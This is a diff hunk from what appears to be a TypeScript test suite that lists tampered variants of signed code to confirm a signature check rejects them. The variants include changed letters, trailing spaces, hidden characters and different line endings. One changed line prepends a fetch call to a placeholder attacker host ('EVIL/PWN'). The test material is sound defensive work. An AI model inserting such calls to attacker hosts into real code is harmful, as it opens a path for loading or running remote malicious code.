@@ -82,7 +82,7 @@ const OF_SIGNATURES: readonly ModuleAttack[] = [
   },
   { name: 'a changed letter', payload: { ...SIGNED, codeToEval: CODE.replace('mount', 'mounT') } },
   { name: 'a space at the end', payload: { ...SIGNED, codeToEval: `${CODE} ` } },
-  { name: 'a line before', payload: { ...SIGNED, codeToEval: `import "${EVIL}/PWN";\n${CODE}` } },
+  { name: 'a line before', payload: { ...SIGNED, codeToEval: `fetch("${EVIL}/PWN");\n${CODE}` } },
   { name: 'an unseen letter', payload: { ...SIGNED, codeToEval: `${CODE}\0` } },
   { name: 'the mark of an order of bytes', payload: { ...SIGNED, codeToEval: `\uFEFF${CODE}` } },
   { name: 'other ends of lines', payload: { ...signed({ code: `${CODE}\n` }), codeToEval: `${CODE}\r\n` } },
